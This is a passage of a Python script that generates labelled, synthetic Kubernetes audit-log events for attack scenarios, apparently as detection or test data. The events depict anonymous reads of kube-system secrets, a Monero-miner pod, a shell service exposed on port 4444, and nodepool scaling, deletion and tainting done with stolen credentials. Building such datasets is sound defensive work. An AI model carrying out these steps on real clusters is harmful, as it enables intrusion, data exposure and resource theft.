        e = refused(SF, verb, "configmaps", nm, "kube-system", t=tm)
    elif verb == "create":
        e = event(who, verb, "/api/v1/namespaces/kube-system/configmaps" + q, ref("configmaps", "kube-system", nm), t=tm, code=201)
    else:
        e = event(who, verb, f"/api/v1/namespaces/kube-system/configmaps/{nm}" + q, ref("configmaps", "kube-system", nm), t=tm)
    a("kube-system-configmap-tampering", note, e)

ANON_ALLOW = 'RBAC: allowed by ClusterRoleBinding "anonymous-debug" of ClusterRole "cluster-admin" to User "system:anonymous"'
for ip, ua, verb, uri, r_, note, code, tm in [
    ("185.191.171.5", "python-requests/2.31.0", "list", "/api/v1/namespaces/kube-system/secrets", ref("secrets", "kube-system"),
     "anonymous request lists kube-system secrets, allowed by a cluster-admin binding to system:anonymous", 200, at(6, 3)),
    ("185.191.171.5", "python-requests/2.31.0", "list", "/api/v1/pods", ref("pods"),
     "anonymous request lists every pod, allowed", 200, at(6, 2)),
    ("193.32.162.88", "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f", "get", "/api/v1/nodes", ref("nodes"),
     "anonymous kubectl lists nodes, allowed", 200, at(8, 41)),
]:
    a("anonymous-allowed", note, event(Who("system:anonymous", ["system:unauthenticated"], ip, ua), verb if verb != "get" else "list",
                                       uri, r_, t=tm, reason=ANON_ALLOW))
ap_ = pod("kworker", "default", pod_spec([container("kworker", "docker.io/kannix/monero-miner:latest")]))
a("anonymous-allowed", "anonymous request creates a pod, allowed",
  create(Who("system:anonymous", ["system:unauthenticated"], "185.191.171.5", "python-requests/2.31.0"), "pods", ap_,
         t=at(6, 5), reason=ANON_ALLOW))

svc = service("diag-shell", "default", "LoadBalancer", [{"protocol": "TCP", "port": 4444, "targetPort": 4444}],
              {"run": "diag-shell"})
a("service-exposure", "stolen admin: kubectl expose pod diag-shell --type=LoadBalancer on 4444",
  create(STOLEN, "services", svc, q="?fieldManager=kubectl-expose&fieldValidation=Strict", resp=service_stored(svc, at(3, 0)),
         t=at(3, 0)))
svc = service("ledger-db-np", "payments", "NodePort", [{"protocol": "TCP", "port": 5432, "targetPort": 5432, "nodePort": 31543}],
              {"statefulset.kubernetes.io/pod-name": "ledger-db-0"})
a("service-exposure", "hijacked developer session: NodePort service exposing the ledger-db-0 pod",
  create(THEO_HIJACK, "services", svc, resp=service_stored(svc, at(5, 59)), t=at(5, 59)))
svc = service("redis-master", "shop", "LoadBalancer", [{"name": "redis", "protocol": "TCP", "port": 6379, "targetPort": 6379}],
              {"app.kubernetes.io/name": "redis", "statefulset.kubernetes.io/pod-name": "redis-master-0"})
a("service-exposure", "stolen admin: merge patch turns the redis-master ClusterIP service into a LoadBalancer",
  patch(STOLEN6, "services", "redis-master", {"spec": {"type": "LoadBalancer"}}, service_stored(svc, at(0, 0)), ns="shop",
        q="?fieldManager=kubectl-patch", t=at(3, 2)))
svc = service("dash-ext", "kube-system", "NodePort", [{"protocol": "TCP", "port": 8443, "targetPort": 8443}],
              {"k8s-app": "kubernetes-dashboard"})
a("service-exposure", "leaked CI token: NodePort exposing the dashboard pod in kube-system",
  create(CI_LEAK, "services", svc, resp=service_stored(svc, at(2, 29)), t=at(2, 29)))

NP = "kube.cloud.ovh.com"


def nodepool(name, flavor, desired, mn=0, mx=100, autoscale=False):
    return {"apiVersion": "kube.cloud.ovh.com/v1alpha1", "kind": "NodePool",
            "metadata": {"name": name},
            "spec": {"antiAffinity": False, "autoscale": autoscale,
                     "autoscaling": {"scaleDownUnneededTimeSeconds": 600, "scaleDownUnreadyTimeSeconds": 1200,
                                     "scaleDownUtilizationThreshold": "0.5"},
                     "desiredNodes": desired, "flavor": flavor, "maxNodes": mx, "minNodes": mn,
                     "monthlyBilled": False, "template": {"metadata": {"annotations": {}, "finalizers": [], "labels": {}},
                                                          "spec": {"taints": [], "unschedulable": False}}}}


npw = nodepool("web-b2-15", "b2-15", 30, mx=40)
a("nodepool-tampering", "stolen admin: merge patch scales nodepool web-b2-15 to 30 nodes",
  patch(STOLEN, "nodepools", "web-b2-15", {"spec": {"desiredNodes": 30, "maxNodes": 40}}, stored(npw, at(0, 0), gen=7),
        q="?fieldManager=kubectl-patch", t=at(5, 1)))
a("nodepool-tampering", "hijacked developer session deletes nodepool ingest-b3-16",
  delete(THEO_HIJACK, "nodepools", "ingest-b3-16", kind="nodepools", t=at(6, 0)))
npg = nodepool("gpu-burst", "l40s-90", 6, mx=10)
a("nodepool-tampering", "leaked CI token creates a GPU nodepool (for mining)",
  create(CI_LEAK, "nodepools", npg, q="?fieldManager=kubectl-create&fieldValidation=Strict", t=at(2, 31)))
npi = nodepool("ingest-b3-16", "b3-16", 3)
npi["spec"]["template"]["spec"]["taints"] = [{"key": "lumenstack.io/drain", "effect": "NoExecute", "value": "true"}]
a("nodepool-tampering", "stolen admin: JSON patch adds a NoExecute taint to every node of ingest-b3-16",
  patch(STOLEN6, "nodepools", "ingest-b3-16",
        [{"op": "add", "path": "/spec/template/spec/taints/-", "value": {"key": "lumenstack.io/drain", "effect": "NoExecute", "value": "true"}}],
        stored(npi, at(0, 0), gen=4), q="?fieldManager=kubectl-patch", t=at(4, 59)))
a("nodepool-tampering", "compromised storefront SA: update nodepool refused (403)",
  refused(SF, "update", "nodepools", "web-b2-15", t=at(14, 8)))
